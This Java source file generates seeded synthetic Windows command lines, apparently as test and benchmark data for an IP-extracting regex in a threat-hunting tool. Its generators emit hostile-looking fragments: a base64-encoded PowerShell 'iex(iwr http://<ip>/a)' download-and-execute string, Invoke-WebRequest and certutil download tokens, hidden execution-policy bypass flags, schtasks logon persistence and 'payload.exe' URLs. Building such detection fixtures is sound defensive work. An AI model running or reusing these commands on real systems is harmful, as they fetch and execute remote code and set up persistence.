package org.huntindex.extract;

import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;
import java.nio.charset.StandardCharsets;

/**
 * A seeded generator of Windows command lines for equality tests and benchmarks: mostly realistic (paths, GUIDs,
 * versions, URLs, ports, encoded PowerShell, zero to three IPv4 addresses, IPv6), plus a share of adversarial lines
 * that stress the KQL regex's corners (non-ASCII word characters against quads, TAB/LF/CR/NBSP, surrogate pairs,
 * one- to four-digit octets, dot-and-digit runs that force backtracking).
 */
public final class CommandLineCorpus {

  private static final String[] EXES = {
    "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "powershell.exe", "\"C:\\Program Files\\Git\\bin\\git.exe\"",
    "C:\\Windows\\system32\\svchost.exe", "rundll32.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "msiexec.exe", "\"C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe\"", "net.exe", "ping.exe",
    "certutil.exe", "curl.exe", "wmic.exe", "schtasks.exe", "reg.exe"
  };
  private static final String[] WORDS = {
    "/c", "/k", "-NoProfile", "-ExecutionPolicy", "Bypass", "-w", "hidden", "/s", "/q", "--type=renderer", "-n", "1",
    "-t", "use", "start", "/b", "echo", "copy", "del", "/f", "query", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "&&", "|", ">", "nul", "2>&1", "-Command", "Invoke-WebRequest", "-Uri", "-OutFile", "$env:TEMP\\a.ps1", "iex",
    "/create", "/tn", "Updater", "/sc", "onlogon", "/tr", "process", "call", "create", "-urlcache", "-split", "-f",
    "--field-trial-handle=1736,i,11620452185942716937,4391578349174934082,262144", "--lang=en-US", "-k", "netsvcs",
    "-p", "-s", "Schedule", "C:\\Users\\alice\\AppData\\Local\\Temp\\setup.tmp", "\\\\fileserver\\share$\\tools",
    "shell32.dll,Control_RunDLL", "/i", "package.msi", "/qn", "ver", "ipconfig", "/all", "netstat", "-ano"
  };
  private static final String[] TRICKY = {
    "é", "ж", "٣", "ß", "_", "a", "Z", "9", "\t", "\n", "\r", "\u00A0", "\u3000", "\uD83D\uDE00", "\uD835\uDC00",
    "\uDE00", "\uD83D", "\u0301", "\u200D", "\u2028", ".", "..", ":", "/", "\\", "\"", "'", "=", ",", "(", "[", "-",
    "%", "#", "@", " ", "  ", "", "0", "00", "1", "25", "255", "256", "999", "1234"
  };

  private final SplittableRandom random;

  /** A generator whose sequence of lines is fixed by {@code seed}. */
  public CommandLineCorpus(long seed) {
    this.random = new SplittableRandom(seed);
  }

  /** {@code count} lines from a generator seeded with {@code seed}. */
  public static List<String> lines(long seed, int count) {
    CommandLineCorpus corpus = new CommandLineCorpus(seed);
    List<String> out = new ArrayList<>(count);
    for (int i = 0; i < count; i++) {
      out.add(corpus.next());
    }
    return out;
  }

  /** {@code count} realistic lines only (no adversarial ones), for throughput measurements. */
  public static List<String> realisticLines(long seed, int count) {
    CommandLineCorpus corpus = new CommandLineCorpus(seed);
    List<String> out = new ArrayList<>(count);
    for (int i = 0; i < count; i++) {
      out.add(corpus.realistic());
    }
    return out;
  }

  /** The next line: two in three realistic, the rest adversarial. */
  public String next() {
    return random.nextInt(3) == 0 ? adversarial() : realistic();
  }

  /** A command line as seen in 4688 / Sysmon 1 events. */
  public String realistic() {
    StringBuilder sb = new StringBuilder(160);
    sb.append(pick(EXES));
    int args = 1 + random.nextInt(random.nextInt(25) == 0 ? 40 : 6);
    int ips = random.nextInt(10) < 6 ? 0 : 1 + random.nextInt(3);
    for (int i = 0; i < args; i++) {
      sb.append(' ');
      if (ips > 0 && random.nextInt(args - i) < ips) {
        ips--;
        sb.append(ipArgument());
        continue;
      }
      switch (random.nextInt(12)) {
        case 0 -> sb.append('{').append(guid()).append('}');
        case 1 -> sb.append("--version=").append(version());
        case 2 -> sb.append("https://").append(pick("update.example.com", "cdn.contoso.net", "raw.githubusercontent.com"))
            .append('/').append(pick("a", "b/c.ps1", "dl?id=" + random.nextInt(100000))).append(random.nextBoolean() ? "" : ":8443");
        case 3 -> sb.append("-EncodedCommand ").append(encoded());
        case 4 -> sb.append("C:\\Windows\\WinSxS\\amd64_microsoft-windows-").append(version()).append("_none_")
            .append(Long.toHexString(random.nextLong()));
        case 5 -> sb.append(random.nextInt(65536));
        case 6 -> sb.append(random.nextBoolean() ? "2024-05-01T10:" : "").append(random.nextInt(60)).append(':').append(random.nextInt(60));
        default -> sb.append(pick(WORDS));
      }
    }
    return sb.toString();
  }

  /** A line built to exercise the regex's corners. */
  public String adversarial() {
    StringBuilder sb = new StringBuilder(64);
    int parts = 1 + random.nextInt(6);
    for (int i = 0; i < parts; i++) {
      switch (random.nextInt(5)) {
        case 0 -> sb.append(pick(TRICKY));
        case 1 -> sb.append(pick(TRICKY)).append(dottedRun()).append(pick(TRICKY));
        case 2 -> sb.append(pick(WORDS));
        default -> sb.append(pick(TRICKY)).append(quad(true)).append(pick(TRICKY));
      }
    }
    return sb.toString();
  }

  private String ipArgument() {
    return switch (random.nextInt(10)) {
      case 0 -> "http://" + quad(false) + "/" + pick("x", "payload.exe", "");
      case 1 -> quad(false) + ":" + random.nextInt(65536);
      case 2 -> "\\\\" + quad(false) + "\\c$";
      case 3 -> "\"" + quad(false) + "\"";
      case 4 -> "[" + ipv6() + "]:" + random.nextInt(65536);
      case 5 -> ipv6();
      case 6 -> "-ComputerName " + quad(false);
      default -> quad(false);
    };
  }

  private String quad(boolean wild) {
    StringBuilder sb = new StringBuilder(15);
    for (int i = 0; i < 4; i++) {
      if (i > 0) {
        sb.append('.');
      }
      sb.append(wild ? octetText() : String.valueOf(random.nextInt(random.nextBoolean() ? 256 : 20)));
    }
    return sb.toString();
  }

  private String octetText() {
    return switch (random.nextInt(8)) {
      case 0 -> String.valueOf(random.nextInt(10));
      case 1 -> String.valueOf(random.nextInt(100));
      case 2 -> String.valueOf(200 + random.nextInt(60));
      case 3 -> String.valueOf(random.nextInt(10000));
      case 4 -> "0" + random.nextInt(100);
      default -> String.valueOf(random.nextInt(256));
    };
  }

  private String dottedRun() {
    StringBuilder sb = new StringBuilder();
    int n = 2 + random.nextInt(8);
    for (int i = 0; i < n; i++) {
      sb.append(random.nextInt(4) == 0 ? "." : "").append(octetText()).append(random.nextInt(6) == 0 ? ".." : ".");
    }
    return sb.toString();
  }

  private String ipv6() {
    return pick("2001:db8::" + Integer.toHexString(random.nextInt(65536)), "fe80::1%" + random.nextInt(20), "::1",
        "::ffff:" + quad(false), "2001:4860:4860::8888", "fd00:" + Integer.toHexString(random.nextInt(65536)) + "::1");
  }

  private String guid() {
    String hex = Long.toHexString(random.nextLong() | Long.MIN_VALUE) + Long.toHexString(random.nextLong() | Long.MIN_VALUE);
    return hex.substring(0, 8) + '-' + hex.substring(8, 12) + '-' + hex.substring(12, 16) + '-' + hex.substring(16, 20)
        + '-' + hex.substring(20, 32);
  }

  private String version() {
    StringBuilder sb = new StringBuilder();
    int parts = 2 + random.nextInt(4);
    for (int i = 0; i < parts; i++) {
      sb.append(i > 0 ? "." : "").append(random.nextInt(i == 2 ? 30000 : 20));
    }
    return sb.toString();
  }

  private String encoded() {
    byte[] raw = ("iex(iwr http://" + quad(false) + "/a)")
        .getBytes(StandardCharsets.UTF_16LE);
    return Base64.getEncoder().encodeToString(raw);
  }

  private String pick(String... options) {
    return options[random.nextInt(options.length)];
  }
}
